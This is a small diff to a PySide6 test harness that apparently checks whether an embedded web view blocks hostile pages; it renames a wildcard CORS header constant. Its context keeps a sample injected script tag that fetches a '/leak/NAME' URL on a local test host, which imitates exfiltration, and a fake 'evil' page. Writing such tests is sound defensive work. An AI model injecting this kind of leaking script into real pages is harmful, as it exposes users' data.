@@ -9,7 +9,7 @@ from PySide6.QtGui import QGuiApplication
 from PySide6.QtWidgets import QApplication
 
 from tests.web.hostile import hands
-from tests.web.hostile.attempt import ALLOWED, PAINTED, Attempt
+from tests.web.hostile.attempt import ALLOWED, ANYBODY, PAINTED, Attempt
 from tests.web.hostile.subjects import BareView, Guided, Subject
 from tests.web.hostile.witness import Witness, forget
 from tests.web.internet import Answer, Internet, Request
@@ -18,7 +18,6 @@ LOADED_MS = 5_000
 PAINTED_MS = 1_500
 MORE_MS = 50
 BEAT_MS = 10
-EVERYBODY = (("Access-Control-Allow-Origin", "*"),)
 ASKING = (
     "<script>fetch('https://localhost.cts.md:18443/leak/NAME', {mode: 'no-cors'}).catch(() => {})</script>"
 )
@@ -72,7 +71,7 @@ class Trial:
 
         self._internet.sites.clear()
         self._internet.sites.update({entry.split("/")[0].split(":")[0]: allowed for entry in ALLOWED})
-        self._internet.otherwise = lambda _request: Answer("<title>evil</title>", headers=EVERYBODY)
+        self._internet.otherwise = lambda _request: Answer("<title>evil</title>", headers=ANYBODY)
 
     def _wait(self, most_ms: float, until: Callable[[], bool]) -> None:
         timer = QElapsedTimer()
